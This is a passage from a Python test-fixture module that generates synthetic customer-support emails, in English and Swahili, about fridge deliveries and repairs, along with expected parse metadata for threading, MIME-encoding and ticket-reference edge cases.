def _references_only():
    subject = "Re: Delivery to Kisumu"
    mid = "<1741353605.482913.ouma@mail.yahoo.example>"
    ref = "<ft.77.m3n8q2w5@fuatilia.test>"
    body = """The fridge arrived in Kisumu today but the driver says the stand is coming separately. When will it come?

Omondi


On Friday, March 7, 2025 at 08:12:40 AM GMT+3, Fuatilia Support <support@fuatilia.test> wrote:


Your order has left our Nairobi warehouse and should reach Kisumu on Friday.

Fuatilia Support
"""
    data = raw(
        env(
            "omondi.ouma@yahoo.example",
            "sonic305-21.consmr.mail.ne1.yahoo.example",
            "198.51.100.21",
            "Fri,  7 Mar 2025 16:20:09 +0300 (EAT)",
            "4Z6q2B9wYlz9a",
        ),
        f"""Date: Fri, 7 Mar 2025 13:20:05 +0000 (UTC)
From: Omondi Ouma <omondi.ouma@yahoo.example>
To: "support@fuatilia.test" <support@fuatilia.test>
Message-ID: {mid}
References: {ref}
Subject: {subject}
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 7bit
X-Mailer: WebService/1.1.23187 YMailNorrin

{body}""",
    )
    return data, meta(
        frm="omondi.ouma@yahoo.example",
        subject=subject,
        message_id=mid,
        references=[ref],
        text="the driver says the stand is coming separately",
        quoted="should reach Kisumu on Friday",
        notes="Threads only through References (no In-Reply-To) and the "
        "customer removed the [FT-...] tag from the subject; Yahoo "
        "quote is not '>'-prefixed.",
    )


@message("009-reply-in-reply-to-only.eml", "reply")
def _in_reply_to_only():
    subject = "Re: your fridge"
    mid = "<87h6k2m4xq.fsf@mombasa-ice.example>"
    irt = "<ft.88.p4r7t2k9@fuatilia.test>"
    body = """Fuatilia Support <support@fuatilia.test> writes:

> Hello Baraka, we would like to know whether the ice maker is now working.

It works now, the water filter was blocked. You can close the ticket.

Baraka
"""
    data = raw(
        env(
            "baraka@mombasa-ice.example",
            "mx.mombasa-ice.example",
            "203.0.113.90",
            "Sat,  8 Mar 2025 09:14:55 +0300 (EAT)",
            "4Z6qT5n8Jpz9b",
        ),
        f"""From: Baraka Mwakio <baraka@mombasa-ice.example>
To: Fuatilia Support <support@fuatilia.test>
Subject: {subject}
In-Reply-To: {irt} (Fuatilia Support's message of "Tue, 04 Mar 2025
	08:00:00 +0300")
Date: Sat, 08 Mar 2025 09:14:51 +0300
Message-ID: {mid}
User-Agent: Gnus/5.13 (Gnus v5.13)
MIME-Version: 1.0
Content-Type: text/plain

{body}""",
    )
    return data, meta(
        frm="baraka@mombasa-ice.example",
        subject=subject,
        message_id=mid,
        in_reply_to=[irt],
        text="the water filter was blocked",
        quoted="whether the ice maker is now working",
        notes="Threads only through In-Reply-To, which carries an old-style "
        "folded trailing comment (Gnus); quote precedes the new text; "
        "text/plain without charset.",
    )


@message("010-reply-subject-ref-only.eml", "reply")
def _subject_ref_only():
    subject = "Re: [FT-5TN6G] Replacement door seal"
    mid = "<CAJx2Vb7N0qRw5tYk8LmP3zHs9Df4Gc1eUo7Br@mail.gmail.com>"
    body = """Hello, the new door seal you sent is the wrong size, it is 5cm shorter than the door. Can you exchange it?

Nekesa

On Sat, 8 Mar 2025 at 12:00, Fuatilia Support <support@fuatilia.test> wrote:
> Your replacement door seal has been sent by courier to Bungoma.
"""
    data = raw(
        env(
            "nekesa.wafula@gmail.example",
            "mail-lf1-f49.google.example",
            "192.0.2.49",
            "Sun,  9 Mar 2025 15:30:02 +0300 (EAT)",
            "4Z6rK3d6Wbz9c",
        ),
        f"""MIME-Version: 1.0
From: Nekesa Wafula <nekesa.wafula@gmail.example>
Date: Sun, 9 Mar 2025 15:29:58 +0300
Message-ID: {mid}
Subject: {subject}
To: support@fuatilia.test
Content-Type: text/plain; charset="UTF-8"

{body}""",
    )
    return data, meta(
        frm="nekesa.wafula@gmail.example",
        subject=subject,
        message_id=mid,
        ticket_ref="FT-5TN6G",
        text="it is 5cm shorter than the door",
        quoted="has been sent by courier to Bungoma",
        notes="Reply with no In-Reply-To/References at all; only the "
        "[FT-XXXXX] tag in the subject links it to the ticket.",
    )


@message("011-reply-ref-without-brackets.eml", "reply")
def _ref_no_brackets():
    subject = "Re: FT-W6Y3P delivery date"
    mid = "<20250309184412.5c7e1a9b@zawadi-laptop.example>"
    body = """Could you deliver on Tuesday instead? I travel to Machakos on Monday.

Zawadi

On Sun, 09 Mar 2025 10:05:00 +0300
Fuatilia Support <support@fuatilia.test> wrote:

> We can deliver your fridge on Monday 10 March.
"""
    data = raw(
        env(
            "zawadi.mwende@riseup.example",
            "mail.riseup.example",
            "198.51.100.12",
            "Sun,  9 Mar 2025 18:44:16 +0300 (EAT)",
            "4Z6rS0k4Hcz9d",
        ),
        f"""Date: Sun, 9 Mar 2025 18:44:12 +0300
From: Zawadi Mwende <zawadi.mwende@riseup.example>
To: support@fuatilia.test
Subject: {subject}
Message-ID: {mid}
X-Mailer: Claws Mail 4.1.1 (GTK 3.24.38; x86_64-pc-linux-gnu)
MIME-Version: 1.0
Content-Type: text/plain; charset=US-ASCII
Content-Transfer-Encoding: 7bit

{body}""",
    )
    return data, meta(
        frm="zawadi.mwende@riseup.example",
        subject=subject,
        message_id=mid,
        ticket_ref="FT-W6Y3P",
        text="Could you deliver on Tuesday instead",
        quoted="We can deliver your fridge on Monday",
        notes="Ticket reference typed without square brackets and no "
        "threading headers; Claws Mail attribution split over two lines.",
    )


@message("012-reply-ref-in-body-only.eml", "reply")
def _ref_in_body():
    subject = "Re: fridge"
    mid = "<CAKd9Zq3Pm7Xv1Rt6Nw2Yb8Lh4Sj0Fc5gEo2Ua@mail.gmail.com>"
    body = """Habari, kuhusu tiketi FT-X2H7S, fundi hajafika mpaka sasa. Nilisubiri siku nzima jana pale Kariobangi.

Juma
"""
    data = raw(
        env(
            "juma.bakari@gmail.example",
            "mail-pj1-f44.google.example",
            "192.0.2.44",
            "Mon, 10 Mar 2025 08:10:40 +0300 (EAT)",
            "4Z6sB2m9Xdz9f",
        ),
        f"""MIME-Version: 1.0
From: Juma Bakari <juma.bakari@gmail.example>
Date: Mon, 10 Mar 2025 08:10:37 +0300
Message-ID: {mid}
Subject: {subject}
To: support@fuatilia.test
Content-Type: text/plain; charset="UTF-8"

{body}""",
    )
    return data, meta(
        frm="juma.bakari@gmail.example",
        subject=subject,
        message_id=mid,
        text="fundi hajafika mpaka sasa",
        notes="Swahili follow-up whose ticket reference FT-X2H7S appears only "
        "in the body (subject has none, no threading headers): "
        "ticket_ref is null by definition.",
    )


@message("013-reply-nested-prefixes-german-outlook.eml", "reply")
def _nested_prefixes():
    subject = "RE: Re: AW: [FT-Q7W3E] Warranty claim for compressor"
    mid = "<AM9PR07MB7201F3B8C2D1E0A49B6C7D8E9F0A1@AM9PR07MB7201.eurprd07.prod.outlook.com>"
    refs = [
        "<ft.160.a2s4d6f8@fuatilia.test>",
        "<CAG7pXr2@mail.gmail.com>",
        "<FR3P281MB1234A5B6C7D8E9F0@FR3P281MB1234.DEUP281.PROD.OUTLOOK.COM>",
        "<ft.163.j3k5l7z9@fuatilia.test>",
    ]
    body = """Dear all,

The manufacturer has approved the warranty claim (see below). Please proceed with the compressor replacement at our Mombasa shop on Nyerere Avenue.

Amina

-----Original Message-----
Von: Klaus Becker <k.becker@kaeltetechnik.example>
Gesendet: Freitag, 7. M\u00e4rz 2025 15:02
An: Amina Said <amina.said@coastcold.example>
Cc: Fuatilia Support <support@fuatilia.test>
Betreff: AW: [FT-Q7W3E] Warranty claim for compressor

Hello Amina,

the claim for serial number KT-2291-0457 is approved. The replacement compressor ships from Hamburg next week.

Mit freundlichen Gr\u00fc\u00dfen / Best regards
Klaus Becker
"""
    data = raw(
        env(
            "amina.said@coastcold.example",
            "mail-am6eur05on2090.outbound.protection.outlook.example",
            "198.51.100.90",
            "Mon, 10 Mar 2025 11:20:31 +0300 (EAT)",
            "4Z6sL7q1Nfz9g",
        ),
        f"""From: Amina Said <amina.said@coastcold.example>
To: Fuatilia Support <support@fuatilia.test>
CC: Klaus Becker <k.becker@kaeltetechnik.example>
Subject: {subject}
Thread-Topic: AW: [FT-Q7W3E] Warranty claim for compressor
Thread-Index: AQHbkAA1b2c3d4e5f6g7h8i9j0kLmNoPqRsTuVw=
Date: Mon, 10 Mar 2025 08:20:27 +0000
Message-ID: {mid}
References: {" ".join(refs)}
In-Reply-To: {refs[-1]}
Content-Language: en-GB
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: quoted-printable
MIME-Version: 1.0

{qp(body)}""",
    )
    return data, meta(
        frm="amina.said@coastcold.example",
        subject=subject,
        message_id=mid,
        in_reply_to=[refs[-1]],
        references=refs,
        ticket_ref="FT-Q7W3E",
        text="Please proceed with the compressor replacement",
        quoted="is approved. The replacement compressor ships from Hamburg",
        notes="Stacked 'RE: Re: AW:' prefixes, a 4-entry References chain "
        "mixing our ids and others, and a German Outlook quote block "
        "(Von:/Gesendet:/An:/Betreff:).",
    )


@message("014-outlook-web-html-only-reply.eml", "reply")
def _owa_html_only():
    subject = "RE: [FT-H8K2N] Order dispatched to Nyeri"
    mid = "<DB9PR02MB7355A1E4B2C8F6D0E3A9B7C1D8E2F@DB9PR02MB7355.eurprd02.prod.outlook.com>"
    ours = "<ft.170.d3f6g9h2@fuatilia.test>"
    html = """<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1">
<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>
</head>
<body dir="ltr">
<div class="elementToProof" style="font-family: Aptos, Arial, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
The delivery van never arrived in Nyeri. I waited at the shop until 7pm on Saturday.</div>
<div class="elementToProof" style="font-family: Aptos, Arial, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
<br>
</div>
<div class="elementToProof" style="font-family: Aptos, Arial, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
Please call me on the number in my order. Ochieng\u00b7</div>
<div id="appendonsend"></div>
<hr style="display:inline-block;width:98%" tabindex="-1">
<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt" color="#000000"><b>From:</b> Fuatilia Support &lt;support@fuatilia.test&gt;<br>
<b>Sent:</b> Friday, March 7, 2025 4:05 PM<br>
<b>To:</b> Ochieng Owino &lt;ochieng.owino@outlook.example&gt;<br>
<b>Subject:</b> [FT-H8K2N] Order dispatched to Nyeri</font>
<div>&nbsp;</div>
</div>
<div>Your order has been dispatched and will arrive in Nyeri on Saturday.</div>
</body>
</html>
"""
    data = raw(
        env(
            "ochieng.owino@outlook.example",
            "eur02-db5-obe.outbound.protection.outlook.example",
            "198.51.100.55",
            "Mon, 10 Mar 2025 09:02:03 +0300 (EAT)",
            "4Z6sF0x3Ptz9h",
        ),
        f"""From: Ochieng Owino <ochieng.owino@outlook.example>
To: Fuatilia Support <support@fuatilia.test>
Subject: {subject}
Thread-Topic: [FT-H8K2N] Order dispatched to Nyeri
Thread-Index: AQHbkZ2e3f4g5h6i7j8k9l0m
Date: Mon, 10 Mar 2025 06:01:59 +0000
Message-ID:
 {mid}
References: {ours}
In-Reply-To: {ours}
Accept-Language: en-GB, en-US
Content-Language: en-GB
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
Content-Type: text/html; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable
MIME-Version: 1.0

{qp(html, "latin-1")}""",
    )
    return data, meta(
        frm="ochieng.owino@outlook.example",
        subject=subject,
        message_id=mid,
        in_reply_to=[ours],
        references=[ours],
        ticket_ref="FT-H8K2N",
        text="The delivery van never arrived in Nyeri",
        quoted="Your order has been dispatched",
        notes="Outlook on the web reply that is text/html only (iso-8859-1, "
        "QP); the quoted part starts at div#divRplyFwdMsg after an <hr>; "
        "Message-ID folded onto its own line (leading space in str()).",
    )


@message("015-reply-with-signature.eml", "reply")
def _reply_signature():
    subject = "Re: [FT-R9T4Z] Fridge door hinge broken"
    mid = "<CAL3wNq8Vz2Ky6Hp0Tr4Xm9Bd1Gs7Jc5fEo8Pb@mail.gmail.com>"
    ours = "<ft.175.u4i6o8p2@fuatilia.test>"
    body = """Hi Fuatilia,

Thanks, the hinge was replaced this morning and the door closes well now.

-- 
Halima Abdi
Procurement Officer, Garissa Health Centre
Tel: +254 700 111 222
"Afya bora kwa wote"


On Sun, 9 Mar 2025 at 18:03, Fuatilia Support <support@fuatilia.test> wrote:

> Our technician Peter will replace the hinge on Monday morning.
>
> Fuatilia Support
>
"""
    data = raw(
        env(
            "halima.abdi@gmail.example",
            "mail-ed1-f52.google.example",
            "192.0.2.52",
            "Mon, 10 Mar 2025 12:40:05 +0300 (EAT)",
            "4Z6sT9c6Lwz9j",
        ),
        f"""MIME-Version: 1.0
References: {ours}
In-Reply-To: {ours}
From: Halima Abdi <halima.abdi@gmail.example>
Date: Mon, 10 Mar 2025 12:40:01 +0300
Message-ID: {mid}
Subject: {subject}
To: Fuatilia Support <support@fuatilia.test>
Content-Type: text/plain; charset="UTF-8"

{body}""",
    )
    return data, meta(
        frm="halima.abdi@gmail.example",
        subject=subject,
        message_id=mid,
        in_reply_to=[ours],
        references=[ours],
        ticket_ref="FT-R9T4Z",
        text="the hinge was replaced this morning",
        quoted="will replace the hinge on Monday morning",
        notes="Reply whose '-- ' signature block sits between the new text "
        "and the quoted history (Gmail places signatures above quotes).",
    )


@message("016-reply-invalid-ref-alphabet.eml", "reply")
def _invalid_ref():
    subject = "Re: [FT-0OIL1] Spare parts price list"
    mid = "<CAM8bTr5Qy1Lx4Nv7Pk0Zh3Wd6Gf9Sc2jEo5Ra@mail.gmail.com>"
    ours = "<ft.171.z8x2c5v7@fuatilia.test>"
    body = """Hello, do you have the price list for spare parts for the Baridi 200L model? I need a new shelf and the crisper drawer.

Moraa

On Sat, 8 Mar 2025 at 11:15, Fuatilia Support <support@fuatilia.test> wrote:

> We will send you the spare parts catalogue shortly.
"""
    data = raw(
        env(
            "moraa.nyaboke@gmail.example",
            "mail-oa1-f46.google.example",
            "192.0.2.46",
            "Mon, 10 Mar 2025 14:02:22 +0300 (EAT)",
            "4Z6sW4r1Mxz9k",
        ),
        f"""MIME-Version: 1.0
References: {ours}
In-Reply-To: {ours}
From: Moraa Nyaboke <moraa.nyaboke@gmail.example>
Date: Mon, 10 Mar 2025 14:02:19 +0300
Message-ID: {mid}
Subject: {subject}
To: support@fuatilia.test
Content-Type: text/plain; charset="UTF-8"

{body}""",
    )
    return data, meta(
        frm="moraa.nyaboke@gmail.example",
        subject=subject,
        message_id=mid,
        in_reply_to=[ours],
        references=[ours],
        ticket_ref=None,
        text="I need a new shelf and the crisper drawer",
        quoted="send you the spare parts catalogue",
        notes="Subject tag 'FT-0OIL1' uses characters outside the reference "
        "alphabet (0, O, I, L, 1) so it is not a ticket reference; "
        "In-Reply-To still threads it.",
    )


# ===========================================================================
# new conversations
# ===========================================================================


def _kamau_new(trace: str) -> tuple[bytes, dict]:
    """017 and its duplicate delivery 057 share everything but the trace."""
    subject = "Fridge delivered with a dented door"
    mid = "<c0a9e4d2-7b15-4f3e-a861-5d2f9b7c3e10@email.android.com>"
    body = """Hello,

I received my Baridi 250L fridge today (order 58213) but the door has a big dent on the left side. The delivery guys left before I could check it properly.

I would like a replacement please. I am in Ruaka, near the stage.

Thanks,
Kamau
"""
    data = raw(
        trace,
        f"""MIME-Version: 1.0
Date: Tue, 11 Mar 2025 08:15:02 +0300
Message-ID: {mid}
Subject: {subject}
From: Kamau Gitau <kamau.gitau@gmail.example>
To: support@fuatilia.test
User-Agent: K-9 Mail for Android
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 7bit

{body}""",
    )
    return data, meta(
        frm="kamau.gitau@gmail.example",
        subject=subject,
        message_id=mid,
        text="the door has a big dent on the left side",
        notes="",
    )


@message("017-new-plain-english.eml", "new")
def _new_plain():
    data, m = _kamau_new(
        env(
            "kamau.gitau@gmail.example",
            "mail-qk1-f50.google.example",
            "192.0.2.50",
            "Tue, 11 Mar 2025 08:15:06 +0300 (EAT)",
            "4Z6tC1v8Qyz9m",
        )
    )
    m["notes"] = (
        "Plain new request in English from K-9 Mail; "
        "057-duplicate-delivery.eml is the same mail delivered twice."
    )
    return data, m


@message("018-new-swahili-utf8.eml", "new")
def _new_swahili():
    subject = "Friji imeharibika \u2013 naomba msaada"
    mid = "<CAN5rWq2Xk8Lv1Pz4Tb7Hm0Yd3Gs6Jc9fEo2Nc@mail.gmail.com>"
    body = """Habari za asubuhi,

Friji niliyonunua wiki iliyopita imeacha kupoza tangu jana usiku. Maziwa na nyama zimeharibika. Nimejaribu kuizima na kuiwasha tena lakini bado haipozi.

Naomba fundi aje nyumbani kwangu Thika Road, karibu na Roysambu, leo au kesho.

Asanteni,
Wairimu Ndung\u2019u
"""
    data = raw(
        env(
            "wairimu.ndungu@gmail.example",
            "mail-yw1-f47.google.example",
            "192.0.2.47",
            "Tue, 11 Mar 2025 07:02:44 +0300 (EAT)",
            "4Z6t9Yk2Bnz9n",
        ),
        f"""MIME-Version: 1.0
From: Wairimu Ndung'u <wairimu.ndungu@gmail.example>
Date: Tue, 11 Mar 2025 07:02:41 +0300
Message-ID: {mid}
Subject: {ew_b(subject)}
To: Fuatilia Support <support@fuatilia.test>
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: 8bit

""",
        (body, "utf-8"),
    )
    return data, meta(
        frm="wairimu.ndungu@gmail.example",
        subject=subject,
        message_id=mid,
        text="Friji niliyonunua wiki iliyopita imeacha kupoza",
        notes="New request in Swahili, 8bit UTF-8 body, B-encoded subject "
        "with an en dash, unquoted apostrophe in the From display name.",
    )


@message("019-new-html-only.eml", "new")
def _new_html_only():
    subject = "Request for service contract quotation"
    mid = "<1741679021873.18273.jikobora@mail.zoho.example>"
    html = """<!DOCTYPE html><html><head><meta content="text/html;charset=UTF-8" http-equiv="Content-Type"></head><body><div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;"><div>Dear Sir/Madam,<br></div><div><br></div><div>Jiko Bora Restaurant would like a quotation for an annual service contract covering the following units:<br></div><div><br></div><table border="1" cellpadding="4" style="border-collapse:collapse"><tbody><tr><th>Unit</th><th>Location</th><th>Qty</th></tr><tr><td>Upright chiller 600L</td><td>Westlands</td><td>2</td></tr><tr><td>Chest freezer 400L</td><td>Westlands</td><td>3</td></tr><tr><td>Bottle cooler</td><td>Kilimani</td><td>1</td></tr></tbody></table><div><br></div><div>Kindly include quarterly servicing and emergency call-outs.<br></div><div><br></div><div>Regards,<br></div><div>Esther Nduta<br>Operations, Jiko Bora Restaurant<br></div></div><br></body></html>
"""
    data = raw(
        env(
            "accounts@jikobora.example",
            "sender4-op-o12.zoho.example",
            "198.51.100.112",
            "Tue, 11 Mar 2025 10:43:45 +0300 (EAT)",
            "4Z6tK8n5Rgz9p",
        ),
        f"""Date: Tue, 11 Mar 2025 10:43:41 +0300
From: Esther Nduta <accounts@jikobora.example>
To: "support" <support@fuatilia.test>
Message-Id: {mid}
Subject: {subject}
MIME-Version: 1.0
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: 7bit
Importance: Medium
User-Agent: Zoho Mail
X-Mailer: Zoho Mail

{html}""",
    )
    return data, meta(
        frm="accounts@jikobora.example",
        subject=subject,
        message_id=mid,
        text="quotation for an annual service contract",
        notes="New request that is text/html only (no text/plain), with a "
        "table a text renderer must flatten.",
    )


@message("020-new-multipart-alternative.eml", "new")
def _new_alternative():
    subject = "Billing: charged twice for one fridge"
    mid = "<VI1PR09MB4142E7D5C3B1A0F9E8D7C6B5A4F3E@VI1PR09MB4142.eurprd09.prod.outlook.com>"
    bnd = "_000_VI1PR09MB4142E7D5C3B1A0F9E8D7C6B5A4F3EVI1PR09MB4142eurp_"
    plain = """Hello,

My M-Pesa statement shows two payments of KSh 38,999 on 6 March for the same fridge (order 58190). Please refund the second payment to 0700 222 333.

Moraa Nyaboke
"""
    html = """<html><head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body dir="ltr"><div style="font-family: Calibri, Arial, Helvetica, sans-serif; font-size: 12pt;">Hello,<br><br>My M-Pesa statement shows two payments of <b>KSh 38,999</b> on 6 March for the same fridge (order 58190). Please refund the second payment to 0700 222 333.<br><br>Moraa Nyaboke</div></body></html>
"""
    data = raw(
        env(
            "moraa.nyaboke@outlook.example",
            "eur05-vi1-obe.outbound.protection.outlook.example",
            "198.51.100.5",
            "Tue, 11 Mar 2025 11:05:13 +0300 (EAT)",
            "4Z6tL3w0Shz9q",
        ),
        f"""From: Moraa Nyaboke <moraa.nyaboke@outlook.example>
To: "support@fuatilia.test" <support@fuatilia.test>
Subject: {subject}
Thread-Topic: {subject}
Thread-Index: AQHbkmS0a1b2c3d4e5f6g7h8
Date: Tue, 11 Mar 2025 08:05:09 +0000
Message-ID: {mid}
Accept-Language: en-US
Content-Language: en-US
Content-Type: multipart/alternative;
	boundary="{bnd}"
MIME-Version: 1.0

--{bnd}
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64

{b64text(plain)}
--{bnd}
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: base64

{b64text(html)}
--{bnd}--
""",
    )
    return data, meta(
        frm="moraa.nyaboke@outlook.example",
        subject=subject,
        message_id=mid,
        text="shows two payments of KSh 38,999 on 6 March",
        notes="Billing complaint as multipart/alternative (Outlook.com), both "
        "parts base64-encoded; the html part has the phrase split by <b>.",
    )


@message("021-new-empty-body.eml", "new")
def _new_empty():
    subject = "Please call me back - fridge warranty"
    mid = "<CAP0sKw9Yx3Lz6Qv1Nb4Tm7Hd0Gr5Jc8fEo3Md@mail.gmail.com>"
    data = raw(
        env(
            "musyoki.mutua@gmail.example",
            "mail-vk1-f53.google.example",
            "192.0.2.53",
            "Tue, 11 Mar 2025 12:30:21 +0300 (EAT)",
            "4Z6tP6y3Tjz9r",
        ),
        f"""MIME-Version: 1.0
From: Musyoki Mutua <musyoki.mutua@gmail.example>
Date: Tue, 11 Mar 2025 12:30:18 +0300
Message-ID: {mid}
Subject: {subject}
To: support@fuatilia.test
Content-Type: text/plain; charset="UTF-8"

""",
    )
    return data, meta(
        frm="musyoki.mutua@gmail.example",
        subject=subject,
        message_id=mid,
        text=None,
        notes="Everything is in the subject: the body is empty (zero bytes "
        "after the blank line); text_must_contain is null.",
    )


@message("022-new-emoji-base64.eml", "new")
def _new_emoji():
    subject = (
        "Asante sana!! \U0001f64f\U0001f389 Friji mpya inafanya kazi vizuri \U0001f60d\u2744\ufe0f"
    )
    mid = "<CAQ7tLx0Zy4Mw8Rv2Pc5Un1Je6Hs9Kd3gFo7Ne@mail.gmail.com>"
    body = (
        "Asanteni sana Fuatilia!! \U0001f64f\U0001f64f\U0001f64f\n\n"
        "Friji imefika salama na inapoza vizuri sana \u2744\ufe0f\u2744\ufe0f\U0001f9ca "
        "Watoto wamefurahi \U0001f602\U0001f602 juice baridi kila siku \U0001f379\U0001f96d\n\n"
        "Delivery guy was very polite \U0001f44d\U0001f3fe\U0001f44d\U0001f3fe\U0001f4af "
        "5 stars \u2b50\u2b50\u2b50\u2b50\u2b50\n\n"
        "Familia yote \U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 inasema asante \u2764\ufe0f\U0001f1f0\U0001f1ea\n"
    )
    bnd = "000000000000b3e71a062f4c0a77"
    html = (
        '<div dir="auto">'
        + body.replace("\n\n", '</div><div dir="auto"><br></div><div dir="auto">').replace("\n", "")
        + "</div>\n"
    )
    data = raw(
        env(
            "zawadi.mwende@gmail.example",
            "mail-io1-f43.google.example",
            "192.0.2.43",
            "Tue, 11 Mar 2025 19:12:08 +0300 (EAT)",
            "4Z6tZ2c7Vkz9s",
        ),
        f"""MIME-Version: 1.0
From: Zawadi Mwende <zawadi.mwende@gmail.example>
Date: Tue, 11 Mar 2025 19:12:05 +0300
Message-ID: {mid}
Subject: {ew_b(subject)}
To: Fuatilia Support <support@fuatilia.test>
Content-Type: multipart/alternative; boundary="{bnd}"

--{bnd}
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: base64

{b64text(body)}
--{bnd}
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: base64

{b64text(html)}
--{bnd}--
""",
    )
    return data, meta(
        frm="zawadi.mwende@gmail.example",
        subject=subject,
        message_id=mid,
        text="Friji imefika salama na inapoza vizuri sana",
        notes="Emoji-heavy thank-you (skin tones, ZWJ family, flag, VS16) in a"
        " base64 body and a multi-word B-encoded subject.",
    )


@message("023-new-quoted-printable.eml", "new")
def _new_qp():
    subject = "Quote for 4 fridges - St. Mary's Girls, Murang'a"
    mid = "<5e2b8c71-0d4f-4a9e-b3c6-81f7a2d90e54@stmarys-muranga.example>"
    body = (
        "Dear Fuatilia,\n\n"
        "We are requesting a quotation for four 300L fridges for the kitchen and the "
        "sick bay at St. Mary\u2019s Girls School in Murang\u2019a, including delivery "
        "and installation before the new term begins on 28 April 2025.\n\n"
        "Payment will be by cheque or bank transfer \u2014 the Board does not allow "
        "M-Pesa for amounts above KSh 150,000.\n\n"
        "Sr. Agnes Wanjiku\nBursar\n"
    )
    data = raw(
        env(
            "bursar@stmarys-muranga.example",
            "mail.stmarys-muranga.example",
            "203.0.113.28",
            "Wed, 12 Mar 2025 09:00:12 +0300 (EAT)",
            "4Z6vA5d9Wlz9t",
        ),
        f"""Message-ID: {mid}
Date: Wed, 12 Mar 2025 09:00:07 +0300
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
From: Bursar St. Mary's <bursar@stmarys-muranga.example>
To: support@fuatilia.test
Subject: {subject}
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: quoted-printable

{qp(body)}""",
    )
    return data, meta(
        frm="bursar@stmarys-muranga.example",
        subject=subject,
        message_id=mid,
        text="sick bay at St. Mary\u2019s Girls School in Murang\u2019a",
        notes="Quoted-printable body with soft line breaks and =E2=80=99 "
        "apostrophes: the expected phrase only exists after QP decoding;"
        " the unquoted '.' in the From display name ('St.') gives an "
        "ObsoleteHeaderDefect.",
    )


@message("024-new-format-flowed-delsp.eml", "new")
def _new_flowed_delsp():
    subject = "Freezer making ice on the back wall"
    mid = "<8B3F1E2D-4C5A-4B69-9E7D-1F0A2B3C4D5E@bungomaagro.example>"
    # delsp=yes: the final space of a flowed line is deleted when joining,
    # so a break between words is written with two spaces and "refrige"
    # + "rator" is a break inside a word.  Lines starting with "From " are
    # space-stuffed.
    body = (
        "Hello Fuatilia,\n"
        "\n"
        "Our chest freezer at the Bungoma depot builds a thick layer of ice on  \n"
        "the back wall every three days. We defrost it but it comes back. The  \n"
        "refrige \n"
        "rator next to it is fine.\n"
        "\n"
        " From the manual I think the drain is blocked, but I am not sure.\n"
        "\n"
        "Wafula Simiyu\n"
        "Bungoma Agro Dealers\n"
    )
    data = raw(
        env(
            "wafula@bungomaagro.example",
            "smtp.bungomaagro.example",
            "203.0.113.34",
            "Wed, 12 Mar 2025 10:20:41 +0300 (EAT)",
            "4Z6vF1g4Xmz9v",
        ),
        f"""From: Wafula Simiyu <wafula@bungomaagro.example>
Content-Type: text/plain;
	charset=us-ascii;
	format=flowed;
	delsp=yes
Content-Transfer-Encoding: 7bit
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.500.171.1.1\\))
Subject: {subject}
Message-Id: {mid}
Date: Wed, 12 Mar 2025 10:20:37 +0300
To: support@fuatilia.test
X-Mailer: Apple Mail (2.3774.500.171.1.1)

{body}""",
    )
    return data, meta(
        frm="wafula@bungomaagro.example",
        subject=subject,
        message_id=mid,
        text="builds a thick layer of ice on",
        notes="format=flowed; delsp=yes: soft breaks end in a space that must "
        "be deleted (one break falls inside 'refrigerator'), and a "
        "space-stuffed ' From' line.",
    )


@message("025-new-reply-to-differs.eml", "new")
def _new_reply_to():
    subject = "Order: 3 chest freezers for Jiko Bora Westlands"
    mid = "<CAR2vMy5Az9Nx3Sw7Qd0Vo6Kf1It4Le8hGp2Of@mail.gmail.com>"
    body = """Good afternoon,

On behalf of our director, please quote for three 400L chest freezers delivered to our Westlands branch (Woodvale Grove).

Kindly send the quotation to our procurement address, not to me.

Njeri Wambui
PA to the Director, Jiko Bora Restaurant
"""
    data = raw(
        env(
            "njeri.wambui@gmail.example",
            "mail-ua1-f51.google.example",
            "192.0.2.51",
            "Wed, 12 Mar 2025 14:11:30 +0300 (EAT)",
            "4Z6vP7j0Ynz9w",
        ),
        f"""MIME-Version: 1.0
From: Njeri Wambui <njeri.wambui@gmail.example>
Reply-To: Procurement - Jiko Bora <procurement@jikobora.example>
Date: Wed, 12 Mar 2025 14:11:27 +0300
Message-ID: {mid}
Subject: {subject}
To: support@fuatilia.test
Content-Type: text/plain; charset="UTF-8"

{body}""",
    )
    return data, meta(
        frm="njeri.wambui@gmail.example",
        subject=subject,
        message_id=mid,
        text="please quote for three 400L chest freezers",
        notes="Reply-To (procurement@jikobora.example) differs from From: "
        "answers should go to Reply-To; the requester is the From.",
    )


@message("026-new-cc-other-customer.eml", "new")
def _new_cc_customer():
    subject = "Faulty fridges in Green Park Apartments, Block C"
    mid = "<20250312152233.7F3A2C1B@greenpark-estate.example>"
    body = """Dear Fuatilia,

Two tenants in Block C (copied) report that the fridges you installed in January are leaking water onto the floor. Flat C4 (Peter) and flat C9 (Lucy) are affected.

Please arrange a visit; the caretaker will open the flats.

Grace Wanjiku
Estate Manager, Green Park Apartments, Kileleshwa
"""
    data = raw(
        env(
            "grace@greenpark-estate.example",
            "mail.greenpark-estate.example",
            "203.0.113.51",
            "Wed, 12 Mar 2025 15:22:37 +0300 (EAT)",
            "4Z6vT3m6Zpz9x",
        ),
        f"""From: Grace Wanjiku (Estate Manager) <grace@greenpark-estate.example>
To: support@fuatilia.test
